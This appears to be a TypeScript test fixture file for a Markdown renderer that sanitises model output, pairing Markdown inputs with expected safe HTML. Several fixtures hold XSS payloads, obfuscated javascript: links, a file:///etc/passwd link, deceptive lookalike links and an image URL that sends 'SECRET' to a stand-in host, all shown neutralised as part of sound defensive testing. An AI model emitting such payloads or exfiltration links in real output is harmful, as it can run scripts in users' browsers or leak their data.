/** Markdown as models write it, and worse, with the DOM that it must give. */

export const FIXTURES: Record<string, { readonly source: string; readonly html: string }> = {
  paragraphs: {
    source: "One line.\nAnother line.\n\nA new paragraph.",
    html: "<p>One line.<br>Another line.</p><p>A new paragraph.</p>",
  },
  emphasis: {
    source: "*a* _b_ **c** __d__ ***e*** ~~f~~ `g` 2 * 3 * 4 snake_case",
    html: "<p><em>a</em> <em>b</em> <strong>c</strong> <strong>d</strong> <strong><em>e</em></strong> <s>f</s> <code>g</code> 2 * 3 * 4 snake_case</p>",
  },
  headings: {
    source: "# One\n\n## Two\ntext\n\n###### Six\n####### seven",
    html: '<h3 class="swst-h swst-h1">One</h3><h4 class="swst-h swst-h2">Two</h4><p>text</p><h6 class="swst-h swst-h6">Six</h6><p>####### seven</p>',
  },
  lists: {
    source: "- a\n- b\n  - c\n\n1. x\n2. y\n\n3. z",
    html: "<ul><li>a</li><li>b<ul><li>c</li></ul></li></ul><ol><li>x</li><li>y</li><li>z</li></ol>",
  },
  paragraph_after_inner_list: {
    source: "- a\n  - c\n\nAfter.",
    html: "<ul><li>a<ul><li>c</li></ul></li></ul><p>After.</p>",
  },
  paragraph_after_three_lists: {
    source: "1. a\n   - b\n     - c\n\n**Af**ter.\n\n2. b\n   + d\n\n2024 was.",
    html: '<ol><li>a<ul><li>b<ul><li>c</li></ul></li></ul></li></ol><p><strong>Af</strong>ter.</p><ol start="2"><li>b<ul><li>d</li></ul></li></ol><p>2024 was.</p>',
  },
  paragraph_after_bold_items: {
    source: "1. **A**\n   - x\n   - y\n2. **B**\n   - z\n\nSummary.\n\n## Next",
    html: '<ol><li><strong>A</strong><ul><li>x</li><li>y</li></ul></li><li><strong>B</strong><ul><li>z</li></ul></li></ol><p>Summary.</p><h4 class="swst-h swst-h2">Next</h4>',
  },
  paragraphs_in_items: {
    source: "- a\n  - c\n\n  more\n\nAfter.\n\n- a\n  - b\n    - c\n\n   more\n\n- d",
    html: "<ul><li>a<ul><li>c</li></ul><p>more</p></li></ul><p>After.</p><ul><li>a<ul><li>b<ul><li>c</li></ul></li></ul><p>more</p></li></ul><ul><li>d</li></ul>",
  },
  paragraph_after_list_in_quotation: {
    source: "> - a\n>   - c\n\nAfter.",
    html: "<blockquote><ul><li>a<ul><li>c</li></ul></li></ul></blockquote><p>After.</p>",
  },
  numbers_that_are_no_items: {
    source: "1.2. Section\n1.3. Next\n\n7. seven",
    html: '<p>1.2. Section<br>1.3. Next</p><ol start="7"><li>seven</li></ol>',
  },
  tasks: {
    source: "- [ ] open\n- [x] done\n- [X] upper",
    html: '<ul><li><input type="checkbox" disabled=""> open</li><li><input type="checkbox" disabled="" checked=""> done</li><li><span>[X]</span> upper</li></ul>',
  },
  quotation: {
    source: "> quoted\n> more\n\nafter",
    html: "<blockquote><p>quoted<br>more</p></blockquote><p>after</p>",
  },
  code: {
    source: "```python\nprint('<b>')\n\n# `x`\n```\nafter\n\n    indented\n",
    html: '<div class="swst-code"><div class="swst-code-head"><span class="swst-lang">python</span><button class="swst-copy" type="button" aria-label="Copy this code">Copy</button></div><pre tabindex="0"><code>print(\'&lt;b&gt;\')\n\n# `x`</code></pre></div><p>after</p><div class="swst-code"><div class="swst-code-head"><span class="swst-lang"></span><button class="swst-copy" type="button" aria-label="Copy this code">Copy</button></div><pre tabindex="0"><code>indented</code></pre></div>',
  },
  code_in_quotation_after_list: {
    source: "- a\n  - b\n\n> ```\n> one\n> two\n> ```\n",
    html: '<ul><li>a<ul><li>b</li></ul></li></ul><blockquote><div class="swst-code"><div class="swst-code-head"><span class="swst-lang"></span><button class="swst-copy" type="button" aria-label="Copy this code">Copy</button></div><pre tabindex="0"><code>&gt; one\n&gt; two\n&gt;</code></pre></div></blockquote>',
  },
  unclosed_code: {
    source: "```js\nlet a = 1;",
    html: '<div class="swst-code"><div class="swst-code-head"><span class="swst-lang">js</span><button class="swst-copy" type="button" aria-label="Copy this code">Copy</button></div><pre tabindex="0"><code>let a = 1;</code></pre></div>',
  },
  aligned_table: {
    source: "|a|b|c|d|\n| :-- |--:| :-: | - |\n|1|2|3|4|\n|5|\n",
    html: '<div class="swst-table" tabindex="0"><table><thead><tr><th>a</th><th align="right">b</th><th align="center">c</th><th>d</th></tr></thead><tbody><tr><td>1</td><td align="right">2</td><td align="center">3</td><td>4</td></tr><tr><td>5</td></tr></tbody></table></div>',
  },
  table: {
    source: "| a | b |\n|---|---|\n| 1 | **2** |\n\nafter",
    html: '<div class="swst-table" tabindex="0"><table><thead><tr><th> a </th><th> b </th></tr></thead><tbody><tr><td> 1 </td><td> <strong>2</strong> </td></tr></tbody></table></div><p>after</p>',
  },
  links: {
    source:
      '[text](https://example.org/a_(b)) [titled](https://example.org "T") <https://example.org/x>',
    html: '<p><a href="https://example.org/a_(b)" target="_blank" rel="noopener noreferrer">text</a><span class="swst-host"> (example.org)</span> <a href="https://example.org/" target="_blank" rel="noopener noreferrer">titled</a><span class="swst-host"> (example.org)</span> &lt;https://example.org/x&gt;</p>',
  },
  bare_addresses: {
    source:
      "See https://example.org/a. (https://example.org/b_(c)) and http://example.org/d, or **http://example.org**",
    html: '<p>See <a href="https://example.org/a" target="_blank" rel="noopener noreferrer">https://example.org/a</a>. (https://example.org/b_(c)) and <a href="http://example.org/d" target="_blank" rel="noopener noreferrer">http://example.org/d</a>, or <strong>http://example.org</strong></p>',
  },
  link_that_lies: {
    source:
      "[github.com](https://evil.example/x) [https://github.com@evil.example](https://github.com@evil.example/) [good.org](https://GOOD.org/p) [**good.org/q**](https://good.org/p)",
    html: '<p>github.com<span class="swst-host"> (<a href="https://evil.example/x" target="_blank" rel="noopener noreferrer">evil.example</a>)</span> https://github.com@evil.example<span class="swst-host"> (<a href="https://evil.example/" target="_blank" rel="noopener noreferrer">evil.example</a>)</span> <a href="https://good.org/p" target="_blank" rel="noopener noreferrer">good.org</a> <strong>good.org/q</strong><span class="swst-host"> (<a href="https://good.org/p" target="_blank" rel="noopener noreferrer">https://good.org/p</a>)</span></p>',
  },
  schemes: {
    source:
      "[a](javascript:alert(1)) [b](JaVaScRiPt:alert(1)) [c](data:text/html;base64,PHg+) [d](vbscript:x) [e](/api/contents) [f](//evil.example) [g](file:///etc/passwd) [h](\u0001javascript:alert(1)) [i](java\tscript:alert(1)) [j](mailto:a@b.org?cc=c@d.org)",
    html: '<p><span>[a](javascript:alert(1))</span> <span>[b](JaVaScRiPt:alert(1))</span> <span>[c](data:text/html;base64,PHg+)</span> <span>[d](vbscript:x)</span> <span>[e](/api/contents)</span> <span>[f](//evil.example)</span> <span>[g](file:///etc/passwd)</span> <span>[h](\ufffdjavascript:alert(1))</span> <span>[i](java\tscript:alert(1))</span> <a href="mailto:a@b.org" target="_blank" rel="noopener noreferrer">j</a><span class="swst-host"> (a@b.org)</span></p>',
  },
  brackets_that_are_no_link: {
    source: "array[0] and [1] and [a] (b) [x",
    html: "<p>array<span>[0]</span> and <span>[1]</span> and <span>[a]</span> (b) <span>[x</span></p>",
  },
  unclosed_link: {
    source: "see [a](https://example.org and more\n\nnext paragraph",
    html: "<p>see <span>[a](https://example.org and more</span></p><p>next paragraph</p>",
  },
  images: {
    source:
      "![p](https://evil.test/?q=SECRET) ![dot](data:image/png;base64,iVBORw0KGgo=) ![s](data:image/svg+xml;base64,PHN2Zz4=) ![only alt]",
    html: '<p><a href="https://evil.test/?q=SECRET" target="_blank" rel="noopener noreferrer">image: p</a><span class="swst-host"> (evil.test)</span> <img src="data:image/png;base64,iVBORw0KGgo=" alt="dot"> <span>![s](data:image/svg+xml;base64,PHN2Zz4=)</span> <span>![only alt]</span></p>',
  },
  image_in_link: {
    source: "[![p](https://evil.test/p.png)](https://example.org)",
    html: '<p><span>![p](https://evil.test/p.png)</span><span class="swst-host"> (<a href="https://example.org/" target="_blank" rel="noopener noreferrer">example.org</a>)</span></p>',
  },
  raw_html: {
    source: "<b>bold</b> <script>alert(1)</script> <img src=x onerror=alert(1)> a<br>b &amp; &lt;",
    html: "<p>&lt;b&gt;bold&lt;/b&gt; &lt;script&gt;alert(1)&lt;/script&gt; &lt;img src=x onerror=alert(1)&gt; a<br>b &amp;amp; &amp;lt;</p>",
  },
  dollars: {
    source: "It costs $5 and $HOME is set.\n\n# Next\n\n$a+b$ and \\(c\\) end",
    html: '<p>It costs $5 and <span class="">$HOME is set.</span></p><h3 class="swst-h swst-h1">Next</h3><p><span class="swst-math">$a+b$</span> and <span class="swst-math">\\(c\\)</span> end</p>',
  },
  equation: {
    source: "$$\nE = mc^2\n$$\n\n\\[\nx\n\\]\nafter",
    html: '<p><div class="swst-math">$$\nE = mc^2\n$$</div></p><p><div class="swst-math">\\[\nx\n\\]</div><br>after</p>',
  },
  equation_on_one_line: {
    source:
      "So $$E = m_a c^2$$\n**bold** \\[ x [1] \\] and $$y$$.\n\n$$z$$\n\n- $$a$$\n- **b**\n\n| $$c$$ | d |\n|---|---|\n",
    html: '<p>So <span class="swst-math">$$E = m_a c^2$$</span><br><strong>bold</strong> <span class="swst-math">\\[ x [1] \\]</span> and <span class="swst-math">$$y$$</span>.</p><p><span class="swst-math">$$z$$</span></p><ul><li><span class="swst-math">$$a$$</span></li><li><strong>b</strong></li></ul><div class="swst-table" tabindex="0"><table><thead><tr><th> <span class="swst-math">$$c$$</span> </th><th> d </th></tr></thead></table></div>',
  },
  equation_not_closed: {
    source: "Kill $$ and \\[ it\n**bold**\n$$\nnot closed\n\n**bold** and $$end",
    html: '<p>Kill <span class="">$$ and \\[ it</span><br><strong>bold</strong><br><div class="">$$\nnot closed\n</div><br><strong>bold</strong> and <span class="">$$end</span></p>',
  },
  escapes: {
    source: "\\*no\\* \\_no\\_ C:\\\\dir \\a",
    html: "<p>*no* _no_ C:\\dir \\a</p>",
  },
  rule: {
    source: "a\n\n---\n\nb\n***\n",
    html: "<p>a</p><hr><p>b</p><hr>",
  },
  unicode: {
    source: "👩‍💻 עברית é \u202eevil\u202c 漢字 **粗體** `ключ`",
    html: "<p>👩‍💻 עברית é \ufffdevil\ufffd 漢字 <strong>粗體</strong> <code>ключ</code></p>",
  },
  crlf: {
    source: "one\r\ntwo\r\n\r\n- a\r\n- b\r\n",
    html: "<p>one<br>two</p><ul><li>a</li><li>b</li></ul>",
  },
};
